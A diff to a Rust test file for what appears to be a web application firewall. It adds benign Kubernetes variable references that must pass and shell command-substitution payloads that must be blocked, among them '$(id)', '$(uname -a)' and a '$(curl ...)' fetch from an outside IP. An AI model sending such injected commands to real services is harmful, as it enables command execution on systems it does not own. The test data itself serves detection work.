@@ -1097,6 +1097,8 @@ fn holdout9_shapes_pass_and_their_attacks_still_score() {
         // `!!` between words: a wiki table's header cells, an exclamation.
         r#"{"wikitext": "! Region !! Sales\n| North || 12"}"#,
         r#"{"msg": "fixed it !! thank you"}"#,
+        // Kubernetes and CI references to upper-case variables.
+        r#"{"args": ["--dsn", "$(PRIMARY_DB_DSN)"], "cmd": "deploy --tag $(IMAGE_TAG) --ns $(K8S_NS)"}"#,
     ] {
         let o = json_post(&waf, body);
         assert!(!o.blocked, "{body}: {o:?}");
@@ -1158,6 +1160,11 @@ fn holdout9_shapes_pass_and_their_attacks_still_score() {
     ] {
         let o = json_post(&waf, &format!(r#"{{"q": "{q}"}}"#));
         assert!(blocked_category(&o, Category::Xss), "{q}: {o:?}");
+    }
+    for q in
+        ["$(id)", "$(WHOAMI)", "x $(curl -s http://203.0.113.9/a)", "$(MY_VAR) `id`", "$(A_B) $(uname -a)", "$(ID)"]
+    {
+        rule(&format!(r#"{{"q": "{q}"}}"#), 3201);
     }
     for q in ["!!", "!-2", " !1", "x;!!", "a && !-1", "x | !ls"] {
         rule(&format!(r#"{{"q": "{q}"}}"#), 3209);
